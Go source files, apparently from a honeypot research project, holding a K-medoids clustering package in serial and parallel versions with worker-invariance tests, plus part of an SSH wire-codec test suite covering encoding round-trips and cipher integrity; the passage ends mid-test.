					}
				}
			}
			runtime.GOMAXPROCS(prev)
		}
	}
}

// TestKMedoidsWorkerInvariance: clustering output (assignments, medoids,
// WCSS bits) must not depend on the worker count.
func TestKMedoidsWorkerInvariance(t *testing.T) {
	m := randomMatrix(160, 7)
	ref, err := KMedoids(m, 12, Config{Seed: 3, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range workerCounts[1:] {
		got, err := KMedoids(m, 12, Config{Seed: 3, Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		if got.WCSS != ref.WCSS {
			t.Errorf("workers=%d: WCSS %v != %v", workers, got.WCSS, ref.WCSS)
		}
		for i := range ref.Assign {
			if got.Assign[i] != ref.Assign[i] {
				t.Fatalf("workers=%d: assignment %d differs", workers, i)
			}
		}
		for c := range ref.Medoids {
			if got.Medoids[c] != ref.Medoids[c] {
				t.Fatalf("workers=%d: medoid %d differs", workers, c)
			}
		}
	}
	// RandomInit must be worker-invariant too (rng is consumed before any
	// parallel section).
	a, _ := KMedoids(m, 12, Config{Seed: 3, RandomInit: true, Workers: 1})
	b, _ := KMedoids(m, 12, Config{Seed: 3, RandomInit: true, Workers: 8})
	if a.WCSS != b.WCSS {
		t.Errorf("RandomInit WCSS differs across workers: %v vs %v", a.WCSS, b.WCSS)
	}
}

// TestSilhouetteParallelMatchesSerial: bit-identical score across worker
// counts, including clusterings with singleton clusters.
func TestSilhouetteParallelMatchesSerial(t *testing.T) {
	m := randomMatrix(131, 11)
	res, err := KMedoids(m, 9, Config{Seed: 5, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	want := Silhouette(m, res)
	for _, workers := range workerCounts {
		if got := SilhouetteParallel(m, res, workers); got != want {
			t.Errorf("workers=%d: silhouette %v != %v", workers, got, want)
		}
	}
	// Force singleton clusters: assign item 0 alone.
	forced := &Result{K: res.K, Medoids: res.Medoids, Assign: append([]int(nil), res.Assign...)}
	for i := range forced.Assign {
		if forced.Assign[i] == forced.Assign[0] && i != 0 {
			forced.Assign[i] = (forced.Assign[0] + 1) % forced.K
		}
	}
	want = Silhouette(m, forced)
	for _, workers := range workerCounts {
		if got := SilhouetteParallel(m, forced, workers); got != want {
			t.Errorf("singletons workers=%d: silhouette %v != %v", workers, got, want)
		}
	}
}

// TestSweepKWorkerInvariance: the sweep's points must be identical in
// order and value at every worker count.
func TestSweepKWorkerInvariance(t *testing.T) {
	m := randomMatrix(90, 13)
	ks := []int{2, 4, 8, 16, 32}
	ref, err := SweepK(m, ks, Config{Seed: 9, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range workerCounts[1:] {
		got, err := SweepK(m, ks, Config{Seed: 9, Workers: workers})
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != len(ref) {
			t.Fatalf("workers=%d: %d points, want %d", workers, len(got), len(ref))
		}
		for x := range ref {
			if got[x] != ref[x] {
				t.Errorf("workers=%d: point %d = %+v, want %+v", workers, x, got[x], ref[x])
			}
		}
	}
	// Errors still surface from the parallel sweep.
	if _, err := SweepK(m, []int{2, 1000}, Config{Seed: 9, Workers: 4}); err == nil {
		t.Error("out-of-range k must fail")
	}
}

func BenchmarkFillParallel(b *testing.B) {
	const n = 600
	dist := func(i, j int) float64 { return float64(i*j%1000) / 1000 }
	for _, workers := range []int{1, 8} {
		b.Run(map[bool]string{true: "w1", false: "w8"}[workers == 1], func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				FillParallel(n, workers, func(_, i, j int) float64 { return dist(i, j) })
			}
		})
	}
}
