// Package cluster implements K-medoids clustering over a precomputed
// distance matrix, plus the elbow (WCSS) and silhouette diagnostics the
// paper combines to pick k=90 (section 6).
//
// The paper describes "K-Means ... using the pairwise distance matrix";
// with a non-Euclidean metric like token DLD the centroid of a cluster is
// not a session, so the standard formulation is K-medoids (PAM): cluster
// centers are actual sessions and assignment/update steps minimize the
// sum of distances to the medoid. That is what "K-Means over a distance
// matrix" computes in practice.
package cluster

import (
	"fmt"
	"math/rand"
	"sort"
)

// Matrix is a symmetric pairwise distance matrix.
type Matrix struct {
	N int
	// d holds the upper triangle, row-major: d[i][j] for j>i at
	// index(i,j).
	d []float64
}

// NewMatrix allocates an n×n zero matrix.
func NewMatrix(n int) *Matrix {
	return &Matrix{N: n, d: make([]float64, n*(n-1)/2)}
}

func (m *Matrix) idx(i, j int) int {
	if i > j {
		i, j = j, i
	}
	// Offset of row i in the packed upper triangle.
	return i*m.N - i*(i+1)/2 + (j - i - 1)
}

// Set stores the distance between items i and j.
func (m *Matrix) Set(i, j int, v float64) {
	if i == j {
		return
	}
	m.d[m.idx(i, j)] = v
}

// At returns the distance between items i and j (0 on the diagonal).
func (m *Matrix) At(i, j int) float64 {
	if i == j {
		return 0
	}
	return m.d[m.idx(i, j)]
}

// Fill computes all pairwise distances with dist.
func Fill(n int, dist func(i, j int) float64) *Matrix {
	m := NewMatrix(n)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			m.Set(i, j, dist(i, j))
		}
	}
	return m
}

// Result is a clustering outcome.
type Result struct {
	K       int
	Medoids []int
	// Assign[i] is the cluster index of item i.
	Assign []int
	// WCSS is the within-cluster sum of squared distances to medoids.
	WCSS float64
}

// Sizes returns per-cluster member counts.
func (r *Result) Sizes() []int {
	sizes := make([]int, r.K)
	for _, c := range r.Assign {
		sizes[c]++
	}
	return sizes
}

// Members returns the item indices of cluster c.
func (r *Result) Members(c int) []int {
	var out []int
	for i, a := range r.Assign {
		if a == c {
			out = append(out, i)
		}
	}
	return out
}

// Config tunes KMedoids.
type Config struct {
	// MaxIter bounds the assign/update loop (default 50).
	MaxIter int
	// Seed makes initialization deterministic.
	Seed int64
	// RandomInit uses random medoid seeding instead of the default
	// deterministic farthest-point ("k-means++"-style) seeding — the
	// seeding ablation in DESIGN.md.
	RandomInit bool
}

func (c Config) maxIter() int {
	if c.MaxIter > 0 {
		return c.MaxIter
	}
	return 50
}

// KMedoids partitions n items into k clusters using the distance matrix.
func KMedoids(m *Matrix, k int, cfg Config) (*Result, error) {
	n := m.N
	if k <= 0 || k > n {
		return nil, fmt.Errorf("cluster: k=%d out of range for n=%d", k, n)
	}
	rng := rand.New(rand.NewSource(cfg.Seed))

	medoids := make([]int, 0, k)
	if cfg.RandomInit {
		perm := rng.Perm(n)
		medoids = append(medoids, perm[:k]...)
	} else {
		medoids = farthestPointInit(m, k, rng)
	}

	assign := make([]int, n)
	for iter := 0; iter < cfg.maxIter(); iter++ {
		// Assignment step.
		changed := false
		for i := 0; i < n; i++ {
			best, bestD := 0, m.At(i, medoids[0])
			for c := 1; c < k; c++ {
				if d := m.At(i, medoids[c]); d < bestD {
					best, bestD = c, d
				}
			}
			if assign[i] != best {
				assign[i] = best
				changed = true
			}
		}
		if iter > 0 && !changed {
			break
		}
		// Update step: each cluster's medoid becomes the member with the
		// minimal total distance to the other members.
		for c := 0; c < k; c++ {
			bestItem, bestSum := medoids[c], -1.0
			for i := 0; i < n; i++ {
				if assign[i] != c {
					continue
				}
				sum := 0.0
				for j := 0; j < n; j++ {
					if assign[j] == c {
						sum += m.At(i, j)
					}
				}
				if bestSum < 0 || sum < bestSum {
					bestItem, bestSum = i, sum
				}
			}
			medoids[c] = bestItem
		}
	}

	res := &Result{K: k, Medoids: medoids, Assign: assign}
	for i := 0; i < n; i++ {
		d := m.At(i, medoids[assign[i]])
		res.WCSS += d * d
	}
	return res, nil
}

// farthestPointInit picks the first medoid as the item with the minimal
// total distance (the dataset's most central item), then greedily adds
// the item farthest from all chosen medoids — deterministic given the
// matrix.
func farthestPointInit(m *Matrix, k int, _ *rand.Rand) []int {
	n := m.N
	medoids := make([]int, 0, k)

	best, bestSum := 0, -1.0
	for i := 0; i < n; i++ {
		sum := 0.0
		for j := 0; j < n; j++ {
			sum += m.At(i, j)
		}
		if bestSum < 0 || sum < bestSum {
			best, bestSum = i, sum
		}
	}
	medoids = append(medoids, best)

	minDist := make([]float64, n)
	for i := range minDist {
		minDist[i] = m.At(i, best)
	}
	for len(medoids) < k {
		far, farD := 0, -1.0
		for i := 0; i < n; i++ {
			if minDist[i] > farD {
				far, farD = i, minDist[i]
			}
		}
		medoids = append(medoids, far)
		for i := 0; i < n; i++ {
			if d := m.At(i, far); d < minDist[i] {
				minDist[i] = d
			}
		}
	}
	return medoids
}

// Silhouette computes the mean silhouette coefficient of a clustering:
// for each item, (b-a)/max(a,b) where a is the mean intra-cluster
// distance and b the smallest mean distance to another cluster.
func Silhouette(m *Matrix, res *Result) float64 {
	n := m.N
	if n == 0 || res.K < 2 {
		return 0
	}
	sizes := res.Sizes()
	total := 0.0
	counted := 0
	for i := 0; i < n; i++ {
		ci := res.Assign[i]
		if sizes[ci] <= 1 {
			continue // silhouette undefined for singletons; convention 0
		}
		sums := make([]float64, res.K)
		for j := 0; j < n; j++ {
			if j == i {
				continue
			}
			sums[res.Assign[j]] += m.At(i, j)
		}
		a := sums[ci] / float64(sizes[ci]-1)
		b := -1.0
		for c := 0; c < res.K; c++ {
			if c == ci || sizes[c] == 0 {
				continue
			}
			v := sums[c] / float64(sizes[c])
			if b < 0 || v < b {
				b = v
			}
		}
		if b < 0 {
			continue
		}
		max := a
		if b > max {
			max = b
		}
		if max > 0 {
			total += (b - a) / max
		}
		counted++
	}
	if counted == 0 {
		return 0
	}
	return total / float64(counted)
}

// Sweep runs KMedoids for each k in ks and returns the WCSS and
// silhouette series used for the elbow/silhouette model selection.
type SweepPoint struct {
	K          int
	WCSS       float64
	Silhouette float64
}

// SweepK evaluates the clustering quality across candidate cluster
// counts.
func SweepK(m *Matrix, ks []int, cfg Config) ([]SweepPoint, error) {
	out := make([]SweepPoint, 0, len(ks))
	for _, k := range ks {
		res, err := KMedoids(m, k, cfg)
		if err != nil {
			return nil, err
		}
		out = append(out, SweepPoint{K: k, WCSS: res.WCSS, Silhouette: Silhouette(m, res)})
	}
	return out, nil
}

// Elbow picks the sweep point with the maximal curvature of the WCSS
// series (largest second difference) — the "elbow point" heuristic.
func Elbow(points []SweepPoint) int {
	if len(points) < 3 {
		if len(points) == 0 {
			return 0
		}
		return points[0].K
	}
	sorted := append([]SweepPoint(nil), points...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].K < sorted[j].K })
	bestK, bestCurv := sorted[1].K, -1.0
	for i := 1; i < len(sorted)-1; i++ {
		curv := sorted[i-1].WCSS - 2*sorted[i].WCSS + sorted[i+1].WCSS
		if curv > bestCurv {
			bestCurv = curv
			bestK = sorted[i].K
		}
	}
	return bestK
}
