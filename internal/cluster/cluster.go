// Package cluster implements K-medoids clustering over a precomputed
// distance matrix, plus the elbow (WCSS) and silhouette diagnostics the
// paper combines to pick k=90 (section 6).
//
// The paper describes "K-Means ... using the pairwise distance matrix";
// with a non-Euclidean metric like token DLD the centroid of a cluster is
// not a session, so the standard formulation is K-medoids (PAM): cluster
// centers are actual sessions and assignment/update steps minimize the
// sum of distances to the medoid. That is what "K-Means over a distance
// matrix" computes in practice.
package cluster

import (
	"fmt"
	"math/rand"
	"sort"
	"sync/atomic"

	"honeynet/internal/parallel"
)

// Matrix is a symmetric pairwise distance matrix.
type Matrix struct {
	N int
	// d holds the upper triangle, row-major: d[i][j] for j>i at
	// index(i,j).
	d []float64
}

// NewMatrix allocates an n×n zero matrix.
func NewMatrix(n int) *Matrix {
	return &Matrix{N: n, d: make([]float64, n*(n-1)/2)}
}

// Packed exposes the upper-triangle backing array (row-major, j > i),
// length N*(N-1)/2 — the serialization surface of the on-disk matrix
// cache. The slice is shared; do not mutate.
func (m *Matrix) Packed() []float64 { return m.d }

// NewMatrixFromPacked rebuilds a matrix from a packed upper triangle,
// as returned by Packed.
func NewMatrixFromPacked(n int, packed []float64) (*Matrix, error) {
	if want := n * (n - 1) / 2; len(packed) != want {
		return nil, fmt.Errorf("cluster: packed triangle has %d cells, want %d for n=%d", len(packed), want, n)
	}
	return &Matrix{N: n, d: packed}, nil
}

func (m *Matrix) idx(i, j int) int {
	if i > j {
		i, j = j, i
	}
	// Offset of row i in the packed upper triangle.
	return i*m.N - i*(i+1)/2 + (j - i - 1)
}

// Set stores the distance between items i and j.
func (m *Matrix) Set(i, j int, v float64) {
	if i == j {
		return
	}
	m.d[m.idx(i, j)] = v
}

// At returns the distance between items i and j (0 on the diagonal).
func (m *Matrix) At(i, j int) float64 {
	if i == j {
		return 0
	}
	return m.d[m.idx(i, j)]
}

// Fill computes all pairwise distances with dist.
func Fill(n int, dist func(i, j int) float64) *Matrix {
	return FillParallel(n, 1, func(_, i, j int) float64 { return dist(i, j) })
}

// FillParallel computes all pairwise distances using up to `workers`
// goroutines. Rows of the upper triangle are claimed dynamically, which
// load-balances their decreasing length. dist receives the worker index
// so callers can keep per-worker scratch state (e.g. textdist DP rows);
// it must be a pure function of (i, j) up to that scratch, so the matrix
// is identical to Fill's for any worker count.
func FillParallel(n, workers int, dist func(worker, i, j int) float64) *Matrix {
	m := NewMatrix(n)
	parallel.ForEach(n, workers, 1, func(w, lo, hi int) {
		for i := lo; i < hi; i++ {
			row := m.d[m.idx(i, i+1) : m.idx(i, i+1)+n-i-1]
			for j := i + 1; j < n; j++ {
				row[j-i-1] = dist(w, i, j)
			}
		}
	})
	return m
}

// Result is a clustering outcome.
type Result struct {
	K       int
	Medoids []int
	// Assign[i] is the cluster index of item i.
	Assign []int
	// WCSS is the within-cluster sum of squared distances to medoids.
	WCSS float64
}

// Sizes returns per-cluster member counts.
func (r *Result) Sizes() []int {
	sizes := make([]int, r.K)
	for _, c := range r.Assign {
		sizes[c]++
	}
	return sizes
}

// Members returns the item indices of cluster c.
func (r *Result) Members(c int) []int {
	var out []int
	for i, a := range r.Assign {
		if a == c {
			out = append(out, i)
		}
	}
	return out
}

// Config tunes KMedoids.
type Config struct {
	// MaxIter bounds the assign/update loop (default 50).
	MaxIter int
	// Seed makes initialization deterministic.
	Seed int64
	// RandomInit uses random medoid seeding instead of the default
	// deterministic farthest-point ("k-means++"-style) seeding — the
	// seeding ablation in DESIGN.md.
	RandomInit bool
	// Workers caps the goroutines used by the assignment, update, and
	// scoring loops (<= 0 means runtime.NumCPU(), 1 is fully serial).
	// Results are identical for every value: the parallel loops write
	// index-addressed slots and all floating-point reductions run in
	// canonical index order.
	Workers int
}

func (c Config) maxIter() int {
	if c.MaxIter > 0 {
		return c.MaxIter
	}
	return 50
}

// KMedoids partitions n items into k clusters using the distance matrix.
// The assignment and update steps fan out over cfg.Workers goroutines;
// the result is identical for every worker count (each item's and each
// cluster's inner scan stays serial, so every float is accumulated in
// the same order as the serial path).
func KMedoids(m *Matrix, k int, cfg Config) (*Result, error) {
	n := m.N
	if k <= 0 || k > n {
		return nil, fmt.Errorf("cluster: k=%d out of range for n=%d", k, n)
	}
	workers := parallel.Workers(cfg.Workers)
	rng := rand.New(rand.NewSource(cfg.Seed))

	medoids := make([]int, 0, k)
	if cfg.RandomInit {
		perm := rng.Perm(n)
		medoids = append(medoids, perm[:k]...)
	} else {
		medoids = farthestPointInit(m, k, workers)
	}

	assign := make([]int, n)
	for iter := 0; iter < cfg.maxIter(); iter++ {
		// Assignment step: items are independent.
		var changed atomic.Bool
		parallel.ForEach(n, workers, 256, func(_, lo, hi int) {
			for i := lo; i < hi; i++ {
				best, bestD := 0, m.At(i, medoids[0])
				for c := 1; c < k; c++ {
					if d := m.At(i, medoids[c]); d < bestD {
						best, bestD = c, d
					}
				}
				if assign[i] != best {
					assign[i] = best
					changed.Store(true)
				}
			}
		})
		if iter > 0 && !changed.Load() {
			break
		}
		// Update step: each cluster's medoid becomes the member with the
		// minimal total distance to the other members. Clusters are
		// independent; each writes only medoids[c].
		parallel.ForEach(k, workers, 1, func(_, lo, hi int) {
			for c := lo; c < hi; c++ {
				bestItem, bestSum := medoids[c], -1.0
				for i := 0; i < n; i++ {
					if assign[i] != c {
						continue
					}
					sum := 0.0
					for j := 0; j < n; j++ {
						if assign[j] == c {
							sum += m.At(i, j)
						}
					}
					if bestSum < 0 || sum < bestSum {
						bestItem, bestSum = i, sum
					}
				}
				medoids[c] = bestItem
			}
		})
	}

	res := &Result{K: k, Medoids: medoids, Assign: assign}
	for i := 0; i < n; i++ {
		d := m.At(i, medoids[assign[i]])
		res.WCSS += d * d
	}
	return res, nil
}

// farthestPointInit picks the first medoid as the item with the minimal
// total distance (the dataset's most central item), then greedily adds
// the item farthest from all chosen medoids — deterministic given the
// matrix. The O(n²) total-distance pass shards across workers; the
// argmin reduction runs in index order afterwards.
func farthestPointInit(m *Matrix, k, workers int) []int {
	n := m.N
	medoids := make([]int, 0, k)

	rowSums := make([]float64, n)
	parallel.ForEach(n, workers, 64, func(_, lo, hi int) {
		for i := lo; i < hi; i++ {
			sum := 0.0
			for j := 0; j < n; j++ {
				sum += m.At(i, j)
			}
			rowSums[i] = sum
		}
	})
	best, bestSum := 0, -1.0
	for i := 0; i < n; i++ {
		if bestSum < 0 || rowSums[i] < bestSum {
			best, bestSum = i, rowSums[i]
		}
	}
	medoids = append(medoids, best)

	minDist := make([]float64, n)
	for i := range minDist {
		minDist[i] = m.At(i, best)
	}
	for len(medoids) < k {
		far, farD := 0, -1.0
		for i := 0; i < n; i++ {
			if minDist[i] > farD {
				far, farD = i, minDist[i]
			}
		}
		medoids = append(medoids, far)
		for i := 0; i < n; i++ {
			if d := m.At(i, far); d < minDist[i] {
				minDist[i] = d
			}
		}
	}
	return medoids
}

// Silhouette computes the mean silhouette coefficient of a clustering:
// for each item, (b-a)/max(a,b) where a is the mean intra-cluster
// distance and b the smallest mean distance to another cluster.
func Silhouette(m *Matrix, res *Result) float64 {
	return SilhouetteParallel(m, res, 1)
}

// SilhouetteParallel computes the silhouette score using up to `workers`
// goroutines. Per-item coefficients land in an index-addressed slice and
// the mean is reduced in index order, so the result is bit-identical to
// the serial computation for any worker count. The per-item cluster-sum
// buffer is allocated once per worker instead of once per item.
func SilhouetteParallel(m *Matrix, res *Result, workers int) float64 {
	n := m.N
	if n == 0 || res.K < 2 {
		return 0
	}
	workers = parallel.Workers(workers)
	sizes := res.Sizes()
	coeff := make([]float64, n)
	counts := make([]bool, n)
	scratch := make([][]float64, workers)
	for w := range scratch {
		scratch[w] = make([]float64, res.K)
	}
	parallel.ForEach(n, workers, 64, func(w, lo, hi int) {
		sums := scratch[w]
		for i := lo; i < hi; i++ {
			ci := res.Assign[i]
			if sizes[ci] <= 1 {
				continue // silhouette undefined for singletons; convention 0
			}
			clear(sums)
			for j := 0; j < n; j++ {
				if j == i {
					continue
				}
				sums[res.Assign[j]] += m.At(i, j)
			}
			a := sums[ci] / float64(sizes[ci]-1)
			b := -1.0
			for c := 0; c < res.K; c++ {
				if c == ci || sizes[c] == 0 {
					continue
				}
				v := sums[c] / float64(sizes[c])
				if b < 0 || v < b {
					b = v
				}
			}
			if b < 0 {
				continue
			}
			max := a
			if b > max {
				max = b
			}
			if max > 0 {
				coeff[i] = (b - a) / max
			}
			counts[i] = true
		}
	})
	total := 0.0
	counted := 0
	for i := 0; i < n; i++ {
		if counts[i] {
			total += coeff[i]
			counted++
		}
	}
	if counted == 0 {
		return 0
	}
	return total / float64(counted)
}

// Sweep runs KMedoids for each k in ks and returns the WCSS and
// silhouette series used for the elbow/silhouette model selection.
type SweepPoint struct {
	K          int
	WCSS       float64
	Silhouette float64
}

// SweepK evaluates the clustering quality across candidate cluster
// counts. Sweep points are independent — each k runs its own KMedoids
// from the same seed — so they evaluate concurrently on cfg.Workers
// goroutines, each writing its own result slot. The first error in k
// order wins, matching the serial contract.
func SweepK(m *Matrix, ks []int, cfg Config) ([]SweepPoint, error) {
	out := make([]SweepPoint, len(ks))
	errs := make([]error, len(ks))
	// Each sweep point already saturates one core; parallelize across
	// points and keep each KMedoids run serial inside.
	inner := cfg
	inner.Workers = 1
	parallel.ForEach(len(ks), parallel.Workers(cfg.Workers), 1, func(_, lo, hi int) {
		for x := lo; x < hi; x++ {
			res, err := KMedoids(m, ks[x], inner)
			if err != nil {
				errs[x] = err
				continue
			}
			out[x] = SweepPoint{K: ks[x], WCSS: res.WCSS, Silhouette: Silhouette(m, res)}
		}
	})
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// Elbow picks the sweep point with the maximal curvature of the WCSS
// series (largest second difference) — the "elbow point" heuristic.
func Elbow(points []SweepPoint) int {
	if len(points) < 3 {
		if len(points) == 0 {
			return 0
		}
		return points[0].K
	}
	sorted := append([]SweepPoint(nil), points...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].K < sorted[j].K })
	bestK, bestCurv := sorted[1].K, -1.0
	for i := 1; i < len(sorted)-1; i++ {
		curv := sorted[i-1].WCSS - 2*sorted[i].WCSS + sorted[i+1].WCSS
		if curv > bestCurv {
			bestCurv = curv
			bestK = sorted[i].K
		}
	}
	return bestK
}
