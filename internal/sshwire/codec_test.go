package sshwire

import (
	"bytes"
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestBuilderReaderRoundTrip(t *testing.T) {
	b := NewBuilder(64)
	b.Byte(7)
	b.Bool(true)
	b.Bool(false)
	b.Uint32(0xdeadbeef)
	b.Uint64(1 << 40)
	b.StringS("hello")
	b.String([]byte{1, 2, 3})
	b.NameList([]string{"a", "bb", "ccc"})

	r := NewReader(b.Bytes())
	if got := r.Byte(); got != 7 {
		t.Errorf("Byte = %d, want 7", got)
	}
	if !r.Bool() || r.Bool() {
		t.Error("Bool round trip failed")
	}
	if got := r.Uint32(); got != 0xdeadbeef {
		t.Errorf("Uint32 = %x", got)
	}
	if got := r.Uint64(); got != 1<<40 {
		t.Errorf("Uint64 = %x", got)
	}
	if got := r.StringS(); got != "hello" {
		t.Errorf("StringS = %q", got)
	}
	if got := r.String(); !bytes.Equal(got, []byte{1, 2, 3}) {
		t.Errorf("String = %v", got)
	}
	nl := r.NameList()
	if len(nl) != 3 || nl[0] != "a" || nl[1] != "bb" || nl[2] != "ccc" {
		t.Errorf("NameList = %v", nl)
	}
	if err := r.Err(); err != nil {
		t.Fatalf("Err = %v", err)
	}
	if r.Remaining() != 0 {
		t.Errorf("Remaining = %d, want 0", r.Remaining())
	}
}

func TestReaderShortBuffer(t *testing.T) {
	r := NewReader([]byte{0, 0, 0, 9, 'x'}) // claims 9 bytes, has 1
	if got := r.String(); got != nil {
		t.Errorf("String = %v, want nil", got)
	}
	if r.Err() != ErrShortBuffer {
		t.Errorf("Err = %v, want ErrShortBuffer", r.Err())
	}
	// Errors are sticky.
	if r.Byte() != 0 || r.Err() != ErrShortBuffer {
		t.Error("error should be sticky")
	}
}

func TestReaderStringTooBig(t *testing.T) {
	b := NewBuilder(8)
	b.Uint32(maxStringLen + 1)
	r := NewReader(b.Bytes())
	r.String()
	if r.Err() != ErrStringTooBig {
		t.Errorf("Err = %v, want ErrStringTooBig", r.Err())
	}
}

func TestMpintEncoding(t *testing.T) {
	cases := []struct {
		in   []byte
		want []byte // full encoding incl. length
	}{
		{nil, []byte{0, 0, 0, 0}},
		{[]byte{0}, []byte{0, 0, 0, 0}},
		{[]byte{0, 0, 0}, []byte{0, 0, 0, 0}},
		{[]byte{1}, []byte{0, 0, 0, 1, 1}},
		{[]byte{0x7f}, []byte{0, 0, 0, 1, 0x7f}},
		{[]byte{0x80}, []byte{0, 0, 0, 2, 0, 0x80}},          // high bit: leading zero
		{[]byte{0, 0x80}, []byte{0, 0, 0, 2, 0, 0x80}},       // strip then re-add
		{[]byte{0xff, 0x01}, []byte{0, 0, 0, 3, 0, 0xff, 1}}, // multi-byte high bit
	}
	for _, c := range cases {
		b := NewBuilder(8)
		b.Mpint(c.in)
		if !bytes.Equal(b.Bytes(), c.want) {
			t.Errorf("Mpint(%x) = %x, want %x", c.in, b.Bytes(), c.want)
		}
	}
}

func TestMpintRoundTripProperty(t *testing.T) {
	f := func(v []byte) bool {
		b := NewBuilder(len(v) + 8)
		b.Mpint(v)
		r := NewReader(b.Bytes())
		got := r.Mpint()
		if r.Err() != nil {
			return false
		}
		// Normalize expected: strip leading zeros.
		want := v
		for len(want) > 0 && want[0] == 0 {
			want = want[1:]
		}
		return bytes.Equal(got, want)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestStringRoundTripProperty(t *testing.T) {
	f := func(v []byte) bool {
		b := NewBuilder(len(v) + 4)
		b.String(v)
		r := NewReader(b.Bytes())
		got := r.String()
		return r.Err() == nil && bytes.Equal(got, v) && r.Remaining() == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestNegotiate(t *testing.T) {
	got, err := negotiate([]string{"x", "y", "z"}, []string{"z", "y"})
	if err != nil || got != "y" {
		t.Errorf("negotiate = %q, %v; want y (client preference wins)", got, err)
	}
	if _, err := negotiate([]string{"a"}, []string{"b"}); err == nil {
		t.Error("negotiate should fail with no common algorithm")
	}
}

func TestKexInitRoundTrip(t *testing.T) {
	c := &Conn{cipherPrefs: (*Config)(nil).cipherPrefs(), macPrefs: (*Config)(nil).macPrefs()}
	m, err := c.makeKexInit()
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseKexInit(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if got.Cookie != m.Cookie {
		t.Error("cookie mismatch")
	}
	if len(got.KexAlgos) != 2 || got.KexAlgos[0] != KexCurve25519 {
		t.Errorf("KexAlgos = %v", got.KexAlgos)
	}
	if got.FirstKexPacketFollows {
		t.Error("FirstKexPacketFollows should be false")
	}
}

func TestDisconnectRoundTrip(t *testing.T) {
	m := &DisconnectMsg{Reason: DisconnectByApplication, Description: "bye"}
	got, err := ParseDisconnect(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if got.Reason != m.Reason || got.Description != m.Description {
		t.Errorf("got %+v, want %+v", got, m)
	}
	if got.Error() == "" {
		t.Error("Error() should be non-empty")
	}
}

func TestPaddingInvariants(t *testing.T) {
	for n := 0; n < 300; n++ {
		pad := paddingFor(n)
		if pad < minPadding {
			t.Fatalf("paddingFor(%d) = %d < %d", n, pad, minPadding)
		}
		if (5+n+pad)%blockSize != 0 {
			t.Fatalf("paddingFor(%d) = %d: total %d not multiple of %d", n, pad, 5+n+pad, blockSize)
		}
	}
}

func TestPlainCipherRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w := &plainCipher{}
	r := &plainCipher{}
	payloads := [][]byte{{1}, []byte("hello world"), bytes.Repeat([]byte{0xab}, 1000)}
	for i, p := range payloads {
		if err := w.writePacket(&buf, uint32(i), p); err != nil {
			t.Fatal(err)
		}
	}
	for i, p := range payloads {
		got, err := r.readPacket(&buf, uint32(i))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, p) {
			t.Errorf("packet %d: got %x, want %x", i, got, p)
		}
	}
}

func TestCTRCipherRoundTrip(t *testing.T) {
	key := make([]byte, 16)
	iv := make([]byte, 16)
	mac := make([]byte, 32)
	rnd := rand.New(rand.NewSource(1))
	rnd.Read(key)
	rnd.Read(iv)
	rnd.Read(mac)

	enc, err := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)
	if err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	payloads := make([][]byte, 20)
	for i := range payloads {
		p := make([]byte, 1+rnd.Intn(500))
		rnd.Read(p)
		payloads[i] = p
		if err := enc.writePacket(&buf, uint32(i), p); err != nil {
			t.Fatal(err)
		}
	}
	for i, p := range payloads {
		got, err := dec.readPacket(&buf, uint32(i))
		if err != nil {
			t.Fatalf("packet %d: %v", i, err)
		}
		if !bytes.Equal(got, p) {
			t.Errorf("packet %d mismatch", i)
		}
	}
}

func TestCTRCipherDetectsTampering(t *testing.T) {
	key := make([]byte, 16)
	iv := make([]byte, 16)
	mac := make([]byte, 32)
	enc, _ := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)
	dec, _ := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)

	var buf bytes.Buffer
	if err := enc.writePacket(&buf, 0, []byte("attack at dawn")); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	raw[7] ^= 0x01 // flip a ciphertext bit
	if _, err := dec.readPacket(bytes.NewReader(raw), 0); err == nil {
		t.Error("tampered packet should fail MAC verification")
	}
}

func TestAES256SHA512CipherRoundTrip(t *testing.T) {
	key := make([]byte, 32)
	iv := make([]byte, 16)
	mac := make([]byte, 64)
	rnd := rand.New(rand.NewSource(2))
	rnd.Read(key)
	rnd.Read(iv)
	rnd.Read(mac)
	enc, err := newCTRCipher(CipherAES256CTR, MACHmacSHA512, key, iv, mac)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := newCTRCipher(CipherAES256CTR, MACHmacSHA512, key, iv, mac)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	p := []byte("over the stronger suite")
	if err := enc.writePacket(&buf, 3, p); err != nil {
		t.Fatal(err)
	}
	got, err := dec.readPacket(&buf, 3)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, p) {
		t.Error("aes256/sha512 round trip failed")
	}
	// Unsupported names are rejected.
	if _, err := newCTRCipher("3des-cbc", MACHmacSHA256, key[:16], iv, mac); err == nil {
		t.Error("unsupported cipher accepted")
	}
	if _, err := newCTRCipher(CipherAES128CTR, "hmac-md5", key[:16], iv, mac); err == nil {
		t.Error("unsupported MAC accepted")
	}
}

func TestCTRCipherDetectsWrongSequence(t *testing.T) {
	key := make([]byte, 16)
	iv := make([]byte, 16)
	mac := make([]byte, 32)
	enc, _ := newCTRCipher(CipherAES128CTR, MACHmacSHA256, key, iv, mac)
